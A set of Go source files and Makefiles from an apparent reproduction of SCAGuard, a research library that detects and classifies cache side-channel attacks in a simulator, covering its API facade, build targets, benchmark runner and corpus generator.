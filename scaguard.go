// Package scaguard is the public facade of the SCAGuard reproduction —
// detection and classification of cache side-channel attacks via attack
// behavior modeling and similarity comparison (Wang, Bu, Song; DAC 2023).
//
// The library models a target binary's attack behavior as a cache state
// transition enhanced basic block sequence (CST-BBS) and compares it
// against a repository of models built from proof-of-concept attacks
// using an adapted Dynamic Time Warping similarity. Everything runs on a
// built-in machine simulator (ISA interpreter + multi-level cache +
// branch predictor with transient execution), so the full pipeline —
// including genuinely working Flush+Reload, Prime+Probe and Spectre
// PoCs — is reproducible on any host.
//
// Typical use:
//
//	det, _ := scaguard.NewDetector()
//	poc := scaguard.MustAttack("FR-Mastik")   // an "unknown" variant
//	res, _, _ := det.Classify(poc.Program, poc.Victim)
//	fmt.Println(res.Predicted, res.Best.Score)
package scaguard

import (
	"context"
	"fmt"
	"io"
	"math/rand"
	"strings"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/breaker"
	"repro/internal/dataset"
	"repro/internal/detect"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/mutate"
	"repro/internal/panicsafe"
	"repro/internal/retry"
	"repro/internal/scan"
	"repro/internal/serve"
	"repro/internal/shard"
	"repro/internal/similarity"
	"repro/internal/exec"
	"repro/internal/stream"
	"repro/internal/telemetry"
	"repro/internal/window"
)

// Core re-exported types. Program is the binary representation every
// pipeline stage consumes; Model/CSTBBS are the attack behavior model;
// Result is a classification outcome. ScanConfig tunes the repository
// scan engine behind Detector.Scan — worker-pool size and early
// abandoning (see docs/PERFORMANCE.md).
type (
	Program    = isa.Program
	Model      = model.Model
	CSTBBS     = model.CSTBBS
	Result     = detect.Result
	Match      = detect.Match
	Repository = detect.Repository
	Detector   = detect.Detector
	ScanConfig = scan.Config
	Family     = attacks.Family
	PoC        = attacks.PoC
)

// Telemetry re-exports the runtime instrumentation layer
// (internal/telemetry): attach a collector to Detector.Telemetry and
// the whole pipeline — modeling stages, repository scans, pruning
// decisions, DistCache hit rates — records into it. A nil collector
// disables instrumentation at zero cost. See docs/OBSERVABILITY.md.
type (
	Telemetry         = telemetry.Collector
	TelemetrySnapshot = telemetry.Snapshot
	TelemetrySink     = telemetry.Sink
)

// NewTelemetry returns an empty telemetry collector.
func NewTelemetry() *Telemetry { return telemetry.NewCollector() }

// ServeTelemetry exposes a collector's live JSON snapshot over HTTP at
// /metrics; it returns the bound address (addr may use port 0) and a
// shutdown func.
func ServeTelemetry(addr string, c *Telemetry) (bound string, shutdown func() error, err error) {
	return telemetry.Serve(addr, c)
}

// Attack family labels.
const (
	FamilyFlushReload  = attacks.FamilyFR
	FamilyPrimeProbe   = attacks.FamilyPP
	FamilySpectreFR    = attacks.FamilySFR
	FamilySpectrePP    = attacks.FamilySPP
	FamilyBenign       = attacks.FamilyBenign
	DefaultThreshold   = detect.DefaultThreshold
	MinimumModelLength = detect.MinModelLen
)

// BuildModel models the attack behavior of a program; victim may be nil.
func BuildModel(prog, victim *Program) (*Model, error) {
	return model.Build(prog, victim, model.DefaultConfig())
}

// Score compares two behavior models and returns the similarity score
// 1/(D+1) in [0,1].
func Score(a, b *CSTBBS) float64 {
	return similarity.Score(a, b, similarity.DefaultOptions())
}

// AlignedPair re-exports the warping-path step type for explanations.
type AlignedPair = similarity.AlignedPair

// Align returns the normalized distance between two models together
// with the optimal block alignment — which blocks of a matched which
// blocks of b at what cost.
func Align(a, b *CSTBBS) (float64, []AlignedPair) {
	return similarity.Align(a, b, similarity.DefaultOptions())
}

// NewDetector builds a detector whose repository holds one canonical PoC
// model per attack family — the paper's deployment configuration.
func NewDetector() (*Detector, error) {
	pocs := []attacks.PoC{}
	for _, name := range []string{"FR-IAIK", "PP-IAIK", "S-FR-Idea", "S-PP-Trippel"} {
		poc, err := attacks.ByName(name, attacks.DefaultParams())
		if err != nil {
			return nil, err
		}
		pocs = append(pocs, poc)
	}
	repo, err := detect.BuildRepository(pocs, model.DefaultConfig())
	if err != nil {
		return nil, err
	}
	return detect.NewDetector(repo), nil
}

// NewDetectorFromPoCs builds a detector from caller-selected PoCs.
func NewDetectorFromPoCs(pocs []PoC) (*Detector, error) {
	repo, err := detect.BuildRepository(pocs, model.DefaultConfig())
	if err != nil {
		return nil, err
	}
	return detect.NewDetector(repo), nil
}

// AttackNames lists the canonical PoCs of Table II.
func AttackNames() []string { return attacks.Names() }

// ExtensionNames lists the beyond-Table-II PoCs (Meltdown-type,
// Evict+Time), addressable through Attack like the canonical corpus.
func ExtensionNames() []string { return attacks.ExtensionNames() }

// Attack builds a canonical PoC by name with default parameters.
func Attack(name string) (PoC, error) {
	return attacks.ByName(name, attacks.DefaultParams())
}

// MustAttack is Attack that panics on unknown names.
func MustAttack(name string) PoC {
	poc, err := Attack(name)
	if err != nil {
		panic(err)
	}
	return poc
}

// Families lists the four attack families.
func Families() []Family { return attacks.Families() }

// BenignKinds lists the Table III benign families.
func BenignKinds() []string {
	kinds := benign.Kinds()
	out := make([]string, len(kinds))
	for i, k := range kinds {
		out[i] = string(k)
	}
	return out
}

// BenignTemplates lists the templates of one benign kind.
func BenignTemplates(kind string) []string {
	return benign.Templates(benign.Kind(kind))
}

// GenerateBenign builds a benign program from kind, template and seed.
func GenerateBenign(kind, template string, seed int64) (*Program, error) {
	return benign.Generate(benign.Spec{Kind: benign.Kind(kind), Template: template, Seed: seed})
}

// RandomBenign draws a random benign program of a kind.
func RandomBenign(kind string, seed int64) (*Program, error) {
	return benign.Random(benign.Kind(kind), rand.New(rand.NewSource(seed)))
}

// MutateVariant produces a semantics-preserving mutated variant of a
// program (the corpus-expansion transformation of Table II).
func MutateVariant(p *Program, seed int64) (*Program, error) {
	return mutate.Mutate(p, mutate.LightConfig(seed))
}

// ObfuscateVariant produces a polymorphic junk-code-obfuscated variant
// (the E4 robustness transformation).
func ObfuscateVariant(p *Program, seed int64) (*Program, error) {
	return mutate.Mutate(p, mutate.ObfuscationConfig(seed))
}

// StandardDataset assembles the Tables II+III corpus with n samples per
// class under the given seed.
func StandardDataset(n int, seed int64) (*dataset.Dataset, error) {
	return dataset.Standard(dataset.Config{PerClass: n, Seed: seed})
}

// SaveRepository writes a detector's model repository as JSON, the
// deployment artefact of Section III-B3.
func SaveRepository(repo *Repository, w io.Writer) error { return repo.Save(w) }

// LoadRepository reads a repository saved with SaveRepository.
func LoadRepository(r io.Reader) (*Repository, error) { return detect.LoadRepository(r) }

// NewDetectorFromRepository wraps a (possibly loaded) repository with
// default detector settings.
func NewDetectorFromRepository(repo *Repository) *Detector {
	return detect.NewDetector(repo)
}

// ParseProgram assembles a textual ISA program (see internal/isa.Parse
// for the syntax) so downstream users can classify their own programs:
//
//	prog, _ := scaguard.ParseProgram("mine", src)
//	res, _, _ := det.Classify(prog, nil)
//
// Input is resource-limited; oversized programs fail with an
// *isa.LimitError before any memory is committed.
func ParseProgram(name, src string) (*Program, error) {
	return isa.Parse(name, src)
}

// Streaming classification (internal/stream): targets arrive on a
// channel and one StreamResult per target comes back as it resolves,
// with per-target fault isolation — a panic or error in one target
// becomes an error result while the rest classify normally. See
// docs/ROBUSTNESS.md for the full contract (cancellation, backpressure,
// the drain obligation).
type (
	StreamTarget = stream.Target
	StreamResult = stream.Result
	StreamConfig = stream.Config
)

// ClassifyStream runs the detector's streaming pipeline over in until
// in closes or ctx is cancelled. The caller must drain the returned
// channel until it closes.
func ClassifyStream(ctx context.Context, det *Detector, in <-chan StreamTarget, cfg StreamConfig) <-chan StreamResult {
	return stream.Classify(ctx, det, in, cfg)
}

// PanicError re-exports the recovered-panic error carried by ctx-aware
// APIs and stream results; detect it with errors.As or AsPanicError.
type PanicError = panicsafe.PanicError

// AsPanicError unwraps err to a *PanicError when one is in its chain.
func AsPanicError(err error) (*PanicError, bool) { return panicsafe.AsPanic(err) }

// Sharded repository scan (internal/shard): partition the repository
// across several scan engines — in-process via Detector.Shards, or
// remote shard servers via Detector.ShardAddrs — and scan them as one,
// with the running global best broadcast across shards so pruned scans
// early-abandon across shard boundaries. Exact-mode classification is
// bit-identical to the single-engine scan; a failing shard degrades a
// classification to a *ShardPartialError plus the surviving shards'
// matches. Repeated targets can additionally be served from memory on
// both sides: Detector.ResultCache memoizes whole scan outcomes in the
// client process and ShardServerConfig.ResultCache memoizes whole
// /scan replies in each shard server (internal/vcache). See
// docs/SHARDING.md.
type (
	ShardPolicy       = shard.Policy
	ShardPartialError = shard.PartialError
	ShardServerConfig = shard.ServerConfig
	RetryPolicy       = retry.Policy
	// BreakerSettings tunes the per-replica circuit breakers of a
	// replicated shard fleet (Detector.ShardBreaker); see
	// internal/breaker and docs/ROBUSTNESS.md.
	BreakerSettings = breaker.Settings
)

// Shard partition policies (Detector.ShardPolicy).
const (
	ShardPolicyHash       = shard.PolicyHash
	ShardPolicyRoundRobin = shard.PolicyRoundRobin
)

// ParseShardPolicy parses a CLI policy name ("hash" or "rr").
func ParseShardPolicy(s string) (ShardPolicy, error) { return shard.ParsePolicy(s) }

// ServeShard hosts one shard of a repository over HTTP: the slice shard
// `index` of `shards` under the policy, derived from the repository the
// same way every client derives it. It returns the bound address (addr
// may use port 0) and a shutdown func. This is what
// `scaguard shard-serve` runs.
func ServeShard(repo *Repository, shards, index int, policy ShardPolicy, addr string, cfg ShardServerConfig) (bound string, shutdown func(context.Context) error, err error) {
	if index < 0 || index >= shards {
		return "", nil, fmt.Errorf("scaguard: shard index %d out of range for %d shards", index, shards)
	}
	models := make([]*CSTBBS, len(repo.Entries))
	for i, e := range repo.Entries {
		models[i] = e.BBS
	}
	slice := shard.ShardModels(models, shard.Router{Shards: shards, Policy: policy}, index)
	if cfg.Version == 0 {
		// Advertise the repository version on /healthz so coordinators
		// built over a different repository state can spot the skew.
		cfg.Version = repo.Version()
	}
	return shard.NewServer(slice, cfg).Serve(addr)
}

// Detection-as-a-service front end (internal/serve): a long-lived
// HTTP/JSON server fronting a detector — and through it, optionally, a
// shard fleet — for many concurrent clients, with per-key admission
// control (429 + Retry-After under overload), request hedging against
// slow shards, zero-downtime repository hot-reload (POST /reload) and
// graceful drain. This is what `scaguard serve` runs; the endpoint
// reference and operator guide are in docs/SERVING.md.
type (
	ServeConfig     = serve.Config
	DetectionServer = serve.Server
	ServeTargetSpec = serve.TargetSpec
	ServeVerdict    = serve.Verdict
)

// NewDetectionServer builds the detection service from cfg
// (cfg.Detector is required). Expose it with Serve or mount Handler
// yourself; stop it with Shutdown, which drains in-flight requests.
func NewDetectionServer(cfg ServeConfig) *DetectionServer { return serve.New(cfg) }

// Online sliding-window detection (internal/window): instead of
// modeling a finished trace once, consume its event log incrementally,
// model each time window with the incremental CST-BBS builder, and
// classify every window through the unchanged detector seam — verdicts
// stream out mid-trace, so an in-flight attack is flagged before the
// run ends. This is what `scaguard watch` and the detection service's
// mode=window stream run. See docs/WINDOWING.md.
type (
	WindowConfig  = window.Config
	WindowVerdict = window.Verdict
	WindowOutcome = window.Outcome
)

// Default sliding-window geometry (WindowConfig zero values).
const (
	DefaultWindowSize   = window.DefaultSize
	DefaultWindowStride = window.DefaultStride
)

// Watch runs prog (with an optional victim) on a fresh default machine
// with event recording enabled and replays the log through an online
// sliding-window detector. emit receives one verdict per window, in
// stream order, exactly as a live deployment would have seen them; the
// returned outcome carries the aggregate verdict and the
// latency-to-detection metric.
func Watch(ctx context.Context, det *Detector, prog, victim *Program, cfg WindowConfig, emit func(WindowVerdict)) (WindowOutcome, error) {
	return window.Watch(ctx, det, prog, victim, exec.DefaultConfig(), cfg, emit)
}

// CheckShard verifies a shard server at addr is alive and holds the
// slice the router says it should — the partition handshake used by
// `make shard-smoke` and CLI startup. When addrs[index] names several
// "|"-separated replicas, every replica is checked and the first
// failure is returned; use CheckShardFleet for group-aware semantics.
func CheckShard(ctx context.Context, repo *Repository, addrs []string, index int, policy ShardPolicy) error {
	models := make([]*CSTBBS, len(repo.Entries))
	for i, e := range repo.Entries {
		models[i] = e.BBS
	}
	parts := shard.PartitionModels(models, shard.Router{Shards: len(addrs), Policy: policy})
	reps, err := shard.SplitReplicas(addrs[index])
	if err != nil {
		return err
	}
	for _, a := range reps {
		rs := shard.NewRemoteShard(a, len(parts[index]), scan.Config{Sim: similarity.DefaultOptions()}, shard.RemoteConfig{})
		if err := rs.Check(ctx); err != nil {
			return err
		}
	}
	return nil
}

// CheckShardFleet handshakes every replica of every shard address. It
// returns the names of unhealthy replicas (empty when the whole fleet
// is healthy) and a non-nil error only when some partition has no
// healthy replica at all — the condition under which classifications
// would degrade to partial results. A fleet with dead-but-redundant
// replicas starts fine: failover covers it, and the returned names let
// the caller warn the operator.
func CheckShardFleet(ctx context.Context, repo *Repository, addrs []string, policy ShardPolicy) (unhealthy []string, err error) {
	models := make([]*CSTBBS, len(repo.Entries))
	for i, e := range repo.Entries {
		models[i] = e.BBS
	}
	parts := shard.PartitionModels(models, shard.Router{Shards: len(addrs), Policy: policy})
	var dark []string
	for i := range addrs {
		reps, err := shard.SplitReplicas(addrs[i])
		if err != nil {
			return unhealthy, err
		}
		healthy := 0
		for _, a := range reps {
			rs := shard.NewRemoteShard(a, len(parts[i]), scan.Config{Sim: similarity.DefaultOptions()}, shard.RemoteConfig{})
			if cerr := rs.Check(ctx); cerr != nil {
				unhealthy = append(unhealthy, a)
			} else {
				healthy++
			}
		}
		if healthy == 0 {
			dark = append(dark, addrs[i])
		}
	}
	if len(dark) > 0 {
		return unhealthy, fmt.Errorf("scaguard: no healthy replica for shard group(s) %s", strings.Join(dark, ", "))
	}
	return unhealthy, nil
}
