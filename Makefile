# Developer entry points. Everything is stdlib-only Go; no tools beyond
# the toolchain are required.

GO ?= go

.PHONY: all build test race vet bench ci

all: build

build:
	$(GO) build ./...

test:
	$(GO) test ./...

# Race pass over the concurrent packages (the scan engine and the
# detector/repository wiring around it).
race:
	$(GO) test -race ./internal/detect ./internal/scan

vet:
	$(GO) vet ./...

# The repository-scan benchmark plus the per-stage detection costs;
# see docs/PERFORMANCE.md for how to read them. Use
# `go test -bench=. -benchmem` for the full table/figure harness.
bench:
	$(GO) test -run xxx -bench 'BenchmarkRepositoryScan|DetectionCost|SimilarityDTW' -benchmem .

ci: build vet test race
