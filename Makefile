# Developer entry points. Everything is stdlib-only Go; no tools beyond
# the toolchain are required.

GO ?= go

.PHONY: all build test race vet bench fuzz-short cover ci

all: build

build:
	$(GO) build ./...

test:
	$(GO) test ./...

# Race pass over the concurrent packages (the scan engine and the
# detector/repository wiring around it).
race:
	$(GO) test -race ./internal/detect ./internal/scan

vet:
	$(GO) vet ./...

# The repository-scan benchmark plus the per-stage detection costs;
# see docs/PERFORMANCE.md for how to read them. Use
# `go test -bench=. -benchmem` for the full table/figure harness.
bench:
	$(GO) test -run xxx -bench 'BenchmarkRepositoryScan|DetectionCost|SimilarityDTW' -benchmem .

# Short fuzzing pass over the assembler parser: ten seconds of
# coverage-guided input plus the checked-in seed corpus. Crashers land
# in internal/isa/testdata/fuzz/ as regression inputs.
fuzz-short:
	$(GO) test -fuzz=FuzzParse -fuzztime=10s ./internal/isa

# Coverage over every package, with the per-function summary printed.
cover:
	$(GO) test -coverprofile=coverage.out ./...
	$(GO) tool cover -func=coverage.out | tail -n 1

ci: build vet test race fuzz-short cover
