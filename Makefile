# Developer entry points. Everything is stdlib-only Go; no tools beyond
# the toolchain are required.

GO ?= go
# Every test target carries a hard timeout so a deadlocked pipeline
# fails the run instead of hanging it (the robustness suites exercise
# cancellation and backpressure, where a bug means "stuck forever").
TEST_TIMEOUT ?= 5m

.PHONY: all build test race vet bench bench-shard bench-vcache bench-cascade bench-index bench-check alloc-check vcache-smoke shard-smoke serve-smoke index-smoke window-smoke chaos chaos-smoke docs-check fuzz-short faults cover ci

all: build

build:
	$(GO) build ./...

test:
	$(GO) test -timeout $(TEST_TIMEOUT) ./...

# Race pass over the concurrent packages (the scan engine, the
# detector/repository wiring, the streaming pipeline, the shard
# scatter–gather layer, the circuit breakers, the chaos harness, the
# verdict result cache, the detection service front end and the online
# sliding-window detector).
race:
	$(GO) test -race -timeout $(TEST_TIMEOUT) ./internal/detect ./internal/scan ./internal/stream ./internal/shard ./internal/breaker ./internal/chaos ./internal/vcache ./internal/serve ./internal/index ./internal/window

vet:
	$(GO) vet ./...

# The repository-scan benchmark plus the per-stage detection costs;
# see docs/PERFORMANCE.md for how to read them. Use
# `go test -bench=. -benchmem` for the full table/figure harness.
bench:
	$(GO) test -run xxx -bench 'BenchmarkRepositoryScan|DetectionCost|SimilarityDTW' -benchmem .

# Sharded-scan throughput: one engine vs 1/2/4/8 local shards, exact
# and pruned. On a multi-core machine pruned sharded scans should meet
# or beat the single shard; see docs/PERFORMANCE.md.
bench-shard:
	$(GO) test -run xxx -bench BenchmarkShardedScan -benchmem ./internal/shard

# Verdict result cache cold/warm costs: verdict/miss is a full
# repository scan per classification, verdict/hit the same target from
# memory. The warm path should be well over 5x faster; see
# docs/PERFORMANCE.md.
bench-vcache:
	$(GO) test -run xxx -bench BenchmarkVerdictCache -benchmem ./internal/detect

# Lower-bound cascade figures: repository scan Serial vs Engine vs
# Pruned vs Cascade, best-of-3, written to BENCH_cascade.json. A longer
# benchtime than the CI guard, for quoting in docs/PERFORMANCE.md.
bench-cascade:
	BENCHTIME=1.5s COUNT=3 ./scripts/bench-check.sh

# Repository-index figures: the 500-variant stress-corpus sweep, Flat
# vs Cascade vs Indexed, best-of-3 at a longer benchtime than the CI
# guard, for quoting in docs/PERFORMANCE.md and docs/INDEXING.md.
bench-index:
	$(GO) test -run xxx -bench BenchmarkIndexedScan -benchtime 1.5s -count 3 -benchmem ./internal/scan

# CI regression guards over both benchmarks: fails if the cascade scan
# regresses more than 1.25x RELATIVE to the plain pruned scan in the
# same run, or if the indexed sweep scan drops under 3x over the flat
# pruned scan (intra-run ratios — absolute ns/op thresholds don't
# survive CI machine variance). Writes BENCH_cascade.json and
# BENCH_index.json.
bench-check:
	./scripts/bench-check.sh

# The warm scan path — exact, pruned and cascade — must perform zero
# allocations per full repository pass (testing.AllocsPerRun-pinned;
# see docs/PERFORMANCE.md "Allocation-free scan kernel").
alloc-check:
	$(GO) test -timeout $(TEST_TIMEOUT) -run TestScanZeroAllocWarmPath -v ./internal/scan

# Cache-hit smoke: the differential + all-hits repeat-pass tests across
# the detector, the shard servers and the golden corpus.
vcache-smoke:
	$(GO) test -timeout $(TEST_TIMEOUT) -run 'VerdictCache|ResultCache|CachedServers|ShardedCached' ./internal/vcache ./internal/detect ./internal/shard ./internal/stream .

# End-to-end shard deployment smoke: two shard-serve processes on
# loopback, a partition handshake, then a remote sharded classify whose
# verdict must match the single-engine run.
shard-smoke:
	./scripts/shard-smoke.sh

# End-to-end detection-service smoke: a serve front end over two
# shard-serve processes, 64 concurrent clients with bit-identical
# verdicts, a zero-downtime /reload with cache re-warm, and a clean
# SIGTERM drain (docs/SERVING.md).
serve-smoke:
	./scripts/serve-smoke.sh

# End-to-end repository-index smoke: generate a mutation stress corpus
# with scaguard-corpus, classify flat vs indexed against it (verdicts
# must agree), then the same through two warm-indexed shard-serve
# processes (docs/INDEXING.md).
index-smoke:
	./scripts/index-smoke.sh

# End-to-end online-detection smoke: `scaguard watch` must flag an
# in-flight Flush+Reload mid-trace with a latency-to-detection figure,
# keep a benign workload clean, agree between exact and indexed
# per-window scans, reject nonsense knobs, and the windowed-detection
# benchmark must report cycles-to-detect (docs/WINDOWING.md).
window-smoke:
	./scripts/window-smoke.sh

# Full chaos soak under the race detector: a replicated loopback fleet
# under concurrent load while replicas are killed, revived, slowed and
# flapped. Asserts bit-identical verdicts while >=1 replica per
# partition lives, exactly-once degraded accounting during blackouts,
# breaker re-admission after recovery and zero goroutine leaks
# (docs/ROBUSTNESS.md). CHAOS_SEED/CHAOS_ROUNDS tune the schedule.
chaos:
	$(GO) test -race -count=1 -timeout $(TEST_TIMEOUT) -v -run TestChaosSoak ./internal/chaos

# CLI-level failure-ladder smoke (healthy fleet bit-identity, one-dead
# failover, whole-partition refusal) plus a short in-process soak.
chaos-smoke:
	./scripts/chaos-smoke.sh

# Every relative markdown link in the repo must resolve; broken links
# fail CI so the docs can't silently drift from the tree.
docs-check:
	./scripts/docs-check.sh

# Short fuzzing pass: ten seconds each over the assembler parser, the
# lower-bound cascade soundness property (every tier <= the exact DTW
# distance) and the index-descent exactness property (an indexed scan's
# best match bit-equals the flat engine's on random repositories), plus
# the checked-in seed corpora. Crashers land in the package's
# testdata/fuzz/ as regression inputs.
fuzz-short:
	$(GO) test -fuzz=FuzzParse -fuzztime=10s -timeout $(TEST_TIMEOUT) ./internal/isa
	$(GO) test -fuzz=FuzzLowerBoundCascade -fuzztime=10s -timeout $(TEST_TIMEOUT) ./internal/similarity
	$(GO) test -fuzz=FuzzIndexDescend -fuzztime=10s -timeout $(TEST_TIMEOUT) ./internal/scan

# Fault-injection suite under the race detector: panic isolation,
# cancellation promptness and leak freedom across the scan engine, the
# detector, the streaming pipeline and the shard layer
# (docs/ROBUSTNESS.md).
faults:
	$(GO) test -race -timeout $(TEST_TIMEOUT) \
		-run 'Panic|Cancel|Fault|Inject|Stream|Timeout|Limit|Shard|Retry|Partial|LookupFault|Failpoint|Reload|Drain|Overload|Hedge|Breaker|Prober|Replica|Chaos|Leak|Flap' \
		./internal/faultinject ./internal/panicsafe ./internal/scan ./internal/detect ./internal/stream ./internal/isa ./internal/shard ./internal/retry ./internal/breaker ./internal/chaos ./internal/vcache ./internal/serve ./internal/index ./internal/window

# Coverage over every package, with the per-function summary printed.
cover:
	$(GO) test -coverprofile=coverage.out -timeout $(TEST_TIMEOUT) ./...
	$(GO) tool cover -func=coverage.out | tail -n 1

ci: build vet test race faults alloc-check bench-check vcache-smoke shard-smoke serve-smoke index-smoke window-smoke chaos-smoke docs-check fuzz-short cover
