// Command scaguard-bench regenerates the paper's evaluation artefacts as
// text: Table IV, Table V, Table VI (E1-E4) and the Fig. 5 threshold
// sweep.
//
// Usage:
//
//	scaguard-bench -table 4
//	scaguard-bench -table 5
//	scaguard-bench -table 6 -per-class 40
//	scaguard-bench -fig 5
//	scaguard-bench -all -per-class 40 -seed 7
//
// The paper's full scale is -per-class 400; the default is scaled down
// so a complete -all run finishes in seconds.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"repro/internal/experiments"
)

func main() {
	table := flag.Int("table", 0, "regenerate table 4, 5 or 6")
	fig := flag.Int("fig", 0, "regenerate figure 5")
	ablation := flag.Bool("ablation", false, "run the design-choice ablations")
	sensitivity := flag.Bool("sensitivity", false, "run the cache-hierarchy sensitivity sweep")
	noise := flag.Bool("noise", false, "run the noisy-co-tenant robustness experiment")
	timecost := flag.Bool("timecost", false, "run the Section V time-cost breakdown")
	all := flag.Bool("all", false, "regenerate everything")
	perClass := flag.Int("per-class", 40, "samples per class (paper: 400)")
	seed := flag.Int64("seed", 1, "corpus generation seed")
	folds := flag.Int("folds", 10, "cross-validation folds for the learners")
	flag.Parse()

	cfg := experiments.DefaultConfig()
	cfg.PerClass = *perClass
	cfg.Seed = *seed
	cfg.Folds = *folds

	run := func(name string, f func() error) {
		start := time.Now()
		if err := f(); err != nil {
			fmt.Fprintf(os.Stderr, "scaguard-bench: %s: %v\n", name, err)
			os.Exit(1)
		}
		fmt.Printf("(%s regenerated in %.2fs)\n\n", name, time.Since(start).Seconds())
	}

	any := false
	if *all || *table == 4 {
		any = true
		run("Table IV", func() error {
			rows, err := experiments.TableIV(cfg)
			if err != nil {
				return err
			}
			fmt.Println("TABLE IV: RESULTS OF ATTACK-RELEVANT BB IDENTIFICATION")
			fmt.Print(experiments.FormatTableIV(rows))
			return nil
		})
	}
	if *all || *table == 5 {
		any = true
		run("Table V", func() error {
			rows, err := experiments.TableV(cfg)
			if err != nil {
				return err
			}
			fmt.Println("TABLE V: SIMILARITY COMPARISON OF 5 TYPICAL SCENARIOS")
			fmt.Print(experiments.FormatTableV(rows))
			return nil
		})
	}
	if *all || *table == 6 {
		any = true
		run("Table VI", func() error {
			results, err := experiments.TableVI(cfg)
			if err != nil {
				return err
			}
			fmt.Println("TABLE VI: CLASSIFICATION RESULTS (5 APPROACHES, TASKS E1-E4)")
			fmt.Print(experiments.FormatTableVI(results))
			return nil
		})
	}
	if *all || *fig == 5 {
		any = true
		run("Fig 5", func() error {
			points, err := experiments.Fig5(cfg, nil)
			if err != nil {
				return err
			}
			fmt.Println("FIG 5: CLASSIFICATION RESULTS BY VARYING THE THRESHOLD")
			fmt.Print(experiments.FormatFig5(points))
			if lo, hi, ok := experiments.PlateauRange(points, 0.9); ok {
				fmt.Printf("plateau with P/R/F1 >= 90%%: %.0f%%-%.0f%%\n", lo*100, hi*100)
			}
			return nil
		})
	}
	if *all || *ablation {
		any = true
		run("Ablation", func() error {
			rows, err := experiments.Ablation(cfg)
			if err != nil {
				return err
			}
			fmt.Println("ABLATION: E1 CLASSIFICATION UNDER VARIANT SIMILARITY CONFIGURATIONS")
			fmt.Print(experiments.FormatAblation(rows))
			return nil
		})
	}
	if *all || *sensitivity {
		any = true
		run("Sensitivity", func() error {
			rows, err := experiments.Sensitivity(cfg)
			if err != nil {
				return err
			}
			fmt.Println("SENSITIVITY: SCAGUARD E1 QUALITY ACROSS CACHE HIERARCHIES")
			fmt.Print(experiments.FormatSensitivity(rows))
			return nil
		})
	}
	if *all || *noise {
		any = true
		run("Noise robustness", func() error {
			rows, err := experiments.NoiseRobustness(cfg)
			if err != nil {
				return err
			}
			fmt.Println("NOISE: SCAGUARD E1 QUALITY WITH A CACHE-THRASHING CO-TENANT")
			fmt.Print(experiments.FormatNoise(rows))
			return nil
		})
	}
	if *all || *timecost {
		any = true
		run("Time cost", func() error {
			tc, err := experiments.MeasureTimeCost(cfg)
			if err != nil {
				return err
			}
			fmt.Println("SECTION V: TIME-COST BREAKDOWN")
			fmt.Print(tc.Format())
			return nil
		})
	}
	if !any {
		flag.Usage()
		os.Exit(2)
	}
}
