// Command scaguard-corpus reports the composition of the evaluation
// corpora (Tables II and III): per-class counts, source PoCs/templates
// and size statistics of the generated programs.
//
// Usage:
//
//	scaguard-corpus -per-class 40 -seed 1
//	scaguard-corpus -out repo.json -per-family 125 -seed 1
//
// With -out the command switches to generation mode: it builds the
// seeded mutation stress corpus (internal/detect.BuildVariantRepository
// — PerFamily mutated variants per attack family, every variant's
// parameters and mutation seed derived from the base seed, so two runs
// anywhere produce byte-identical files) and writes it in the
// repository persistence format that `scaguard classify -repo` and
// `scaguard shard-serve -repo` load. docs/INDEXING.md uses it to feed
// the index benchmarks and the indexed-versus-flat smoke test.
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"

	"repro/internal/attacks"
	"repro/internal/cfg"
	"repro/internal/dataset"
	"repro/internal/detect"
)

func main() {
	perClass := flag.Int("per-class", 40, "samples per class (paper: 400)")
	seed := flag.Int64("seed", 1, "corpus generation seed")
	out := flag.String("out", "", "generation mode: write the seeded mutation stress corpus as a repository JSON file to this path instead of printing the composition report")
	perFamily := flag.Int("per-family", 0, "with -out: mutated variants per attack family (0 = 125, i.e. a 500-variant corpus)")
	obfuscate := flag.Bool("obfuscate", false, "with -out: use the polymorphic obfuscation profile instead of light mutation")
	flag.Parse()

	if *out != "" {
		if err := writeCorpus(*out, *perFamily, *seed, *obfuscate); err != nil {
			fmt.Fprintln(os.Stderr, "scaguard-corpus:", err)
			os.Exit(1)
		}
		return
	}

	ds, err := dataset.Standard(dataset.Config{PerClass: *perClass, Seed: *seed})
	if err != nil {
		fmt.Fprintln(os.Stderr, "scaguard-corpus:", err)
		os.Exit(1)
	}

	fmt.Println("TABLE II: THE ATTACK DATASET")
	fmt.Printf("%-8s %-50s %4s %6s\n", "Type", "Sources", "#C", "#M")
	for _, fam := range attacks.Families() {
		pocs := attacks.OfFamily(fam, attacks.DefaultParams())
		names := make([]string, len(pocs))
		for i, p := range pocs {
			names[i] = p.Name
		}
		fmt.Printf("%-8s %-50s %4d %6d\n", fam, join(names), len(pocs), len(ds.ByLabel(fam)))
	}

	fmt.Println("\nTABLE III: THE BENIGN DATASET")
	bySource := map[string]int{}
	for _, s := range ds.ByLabel(attacks.FamilyBenign) {
		kind := s.Source[:index(s.Source, '/')]
		bySource[kind]++
	}
	kinds := make([]string, 0, len(bySource))
	for k := range bySource {
		kinds = append(kinds, k)
	}
	sort.Strings(kinds)
	for _, k := range kinds {
		fmt.Printf("%-10s %6d samples\n", k, bySource[k])
	}

	fmt.Println("\nSIZE STATISTICS")
	var minI, maxI, sumI, minB, maxB, sumB int
	minI, minB = 1<<30, 1<<30
	for _, s := range ds.Samples {
		n := len(s.Program.Insns)
		c := cfg.MustBuild(s.Program).NumBlocks()
		sumI += n
		sumB += c
		if n < minI {
			minI = n
		}
		if n > maxI {
			maxI = n
		}
		if c < minB {
			minB = c
		}
		if c > maxB {
			maxB = c
		}
	}
	n := ds.Len()
	fmt.Printf("samples:          %d\n", n)
	fmt.Printf("instructions:     min %d / avg %d / max %d\n", minI, sumI/n, maxI)
	fmt.Printf("basic blocks:     min %d / avg %d / max %d\n", minB, sumB/n, maxB)
}

func join(names []string) string {
	out := ""
	for i, n := range names {
		if i > 0 {
			out += ", "
		}
		out += n
	}
	return out
}

func index(s string, c byte) int {
	for i := 0; i < len(s); i++ {
		if s[i] == c {
			return i
		}
	}
	return len(s)
}

// writeCorpus is generation mode: build the derived-seed variant
// repository and save it in the classify/shard-serve -repo format.
func writeCorpus(path string, perFamily int, seed int64, obfuscate bool) error {
	repo, err := detect.BuildVariantRepository(detect.CorpusConfig{PerFamily: perFamily, Seed: seed, Obfuscate: obfuscate})
	if err != nil {
		return err
	}
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := repo.Save(f); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
